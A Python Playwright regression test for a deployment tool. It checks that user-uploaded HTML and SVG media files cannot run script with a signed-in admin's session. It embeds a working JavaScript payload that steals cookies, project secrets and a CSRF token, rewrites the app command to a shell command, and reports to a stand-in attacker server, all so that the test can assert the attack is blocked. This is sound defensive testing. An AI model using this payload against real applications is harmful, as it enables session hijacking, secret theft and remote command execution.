"""Media files cannot act as the signed-in admin (issue 8, finding 1), in a real browser.

An application's end user uploads an HTML page and an SVG image into a local media storage; each
holds a script that, once the signed-in admin opens it, tries what the audit's exploit did: read
the project list (and its DSNs) through the admin's session, read the cookies, and change the
project's app command with the CSRF token it found (in the cookies, or in the Services view's
page), then report everything it got to a server of the attacker's. Media files are served on an
origin of their own, with `nosniff`, a sandboxing CSP and active types as downloads, so the
script never runs: nothing is reported and the app command is unchanged.

On the code before (media at the API's /media/, no such headers) the script ran as the admin:
this test failed with the app command changed and the DSNs reported."""

from __future__ import annotations

import json
import secrets
import sys
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, unquote, urlsplit

import httpx
import pytest
from playwright.sync_api import Download, Page
from playwright.sync_api import Error as PlaywrightError

from tests.e2e.conftest import Tether
from tests.web.conftest import sign_in

pytestmark = pytest.mark.web

APP = f"{sys.executable} examples/hello/app.py"
EVIL = "sh -c 'id > /tmp/owned-by-a-media-file'"

#: what the uploaded files run: the exploit of the audit, reporting to the attacker's `SINK`
ATTACK = """
(async () => {
  const api = %(api)s, sink = %(sink)s, project = %(project)s, evil = %(evil)s;
  const tell = (what, data) => fetch(sink + '/' + what, {method: 'POST', mode: 'no-cors',
                                                        body: String(data)}).catch(() => {});
  await tell('ran', location.href);
  let cookies = '';
  try { cookies = document.cookie; } catch (e) { cookies = 'refused: ' + e; }
  await tell('cookies', cookies);
  let csrf = (cookies.match(/tether_csrf=([^;]+)/) || [])[1] || '';
  try {
    const answer = await fetch(api + '/api/v1/projects', {credentials: 'include'});
    await tell('projects', answer.status + ' ' + await answer.text());
  } catch (e) { await tell('projects-refused', e); }
  try {
    const services = await fetch(api + '/api/v1/projects/' + project +
        '/environments/test/variables?all=true&reveal=true', {credentials: 'include'});
    await tell('variables', services.status + ' ' + await services.text());
  } catch (e) { await tell('variables-refused', e); }
  if (!csrf) {  // the Services view's page holds the token where it is not in a cookie
    try {
      const page = await (await fetch(api + '/projects/' + project,
                                      {credentials: 'include'})).text();
      csrf = (page.match(/csrf[\\s\\S]{0,200}?([0-9a-f]{64})/i) || [])[1] || '';
    } catch (e) { await tell('page-refused', e); }
  }
  try {
    const changed = await fetch(api + '/api/v1/projects/' + project, {
      method: 'PATCH', credentials: 'include',
      headers: {'Content-Type': 'application/json', 'X-CSRF-Token': csrf},
      body: JSON.stringify({app_command: evil})});
    await tell('patch', changed.status + ' ' + await changed.text());
  } catch (e) { await tell('patch-refused', e); }
  await tell('done', '');
})();
"""


class Sink:
    """The attacker's server: records every report a media file's script sends it."""

    def __init__(self) -> None:
        self.reports: list[tuple[str, str]] = []
        sink = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length).decode("utf-8", "replace")
                sink.reports.append((self.path.lstrip("/"), body))
                self.send_response(204)
                self.end_headers()

            def do_GET(self) -> None:
                sink.reports.append((self.path.lstrip("/"), ""))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *_args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def wait_for(self, what: str, timeout: float) -> None:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline and what not in {w for w, _ in self.reports}:
            time.sleep(0.1)

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def sink() -> Iterator[Sink]:
    made = Sink()
    yield made
    made.close()


def api(t: Tether, method: str, path: str, **kwargs: object) -> httpx.Response:
    """The REST API with the admin token (the CLI's way), to check what the browser did."""
    return httpx.request(method, t.url + "/api/v1" + path, timeout=30,
                         headers={"Authorization": f"Bearer {t.token()}"}, **kwargs)  # type: ignore[arg-type]


def _media_storage(t: Tether, project: str) -> tuple[Path, str]:
    """A provisioned local media storage of the project: its directory and public base URL
    (the `url=` of its DSN: where the application links its users' files)."""
    t.ok("service", "add", "test", "local-media", "--prefix", "UPLOADS", "--provision",
         "-p", project)
    dsn = t.ok("project", "env-vars", "-p", project, "-e", "test", "--all", "--get",
               "UPLOADS_STORAGE_DSN").out.strip()
    parts = urlsplit(dsn)
    return Path(unquote(parts.path)), parse_qs(parts.query)["url"][0]


def test_a_media_file_opened_by_the_signed_in_admin_cannot_read_or_change_anything(
        tether: Tether, page: Page, sink: Sink) -> None:
    project = f"uploads{secrets.token_hex(3)}"
    api(tether, "POST", "/projects", json={"name": project, "app_command": APP,
                                           "health_path": "/health"}).raise_for_status()
    directory, public = _media_storage(tether, project)
    script = ATTACK % {"api": json.dumps(tether.url), "sink": json.dumps(sink.url),
                       "project": json.dumps(project), "evil": json.dumps(EVIL)}
    files = {
        "avatar.html": f"<!doctype html><html><body><h1>hello</h1><script>{script}</script>"
                       "</body></html>",
        "avatar.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
                      f"<script><![CDATA[{script}]]></script></svg>",
        # an HTML body under a passive name: shown as text (nosniff), never run
        "avatar.txt": f"<!doctype html><script>{script}</script>",
    }
    for name, content in files.items():
        (directory / name).write_text(content)

    downloads: list[str] = []

    def downloaded(download: Download) -> None:
        downloads.append(download.url)
        download.cancel()

    page.on("download", downloaded)
    sign_in(page, tether)
    assert page.evaluate("localStorage.getItem('tether.session')"), "not signed in"
    for name in files:
        try:
            page.goto(public + name)
        except PlaywrightError as exc:  # a download is no page: the navigation is aborted
            assert "Download is starting" in str(exc) or "ERR_ABORTED" in str(exc), exc
        sink.wait_for("done", timeout=5)

    # the scripts never ran: nothing reached the attacker, nothing was changed
    assert sink.reports == [], f"a media file's script ran as the admin: {sink.reports}"
    shown = api(tether, "GET", f"/projects/{project}").json()
    assert shown["app_command"] == APP, shown
    # the active files were downloaded, not shown; the text was shown as text
    assert sorted(downloads) == [public + "avatar.html", public + "avatar.svg"], downloads
    assert page.url == public + "avatar.txt"
    assert "<script>" in page.locator("body").inner_text()

    # what made it so, on the wire
    for name, active in (("avatar.html", True), ("avatar.svg", True), ("avatar.txt", False)):
        answer = httpx.get(public + name, timeout=10)
        assert answer.status_code == 200, name
        assert urlsplit(public).port != urlsplit(tether.url).port  # another origin
        assert answer.headers["x-content-type-options"] == "nosniff", name
        assert "sandbox" in answer.headers["content-security-policy"].split("; "), name
        assert answer.headers.get("content-disposition", "").startswith("attachment") == active
    # and the control plane's port serves no media
    assert httpx.get(f"{tether.url}/media/{directory.name}/avatar.html",
                     timeout=10).status_code == 404
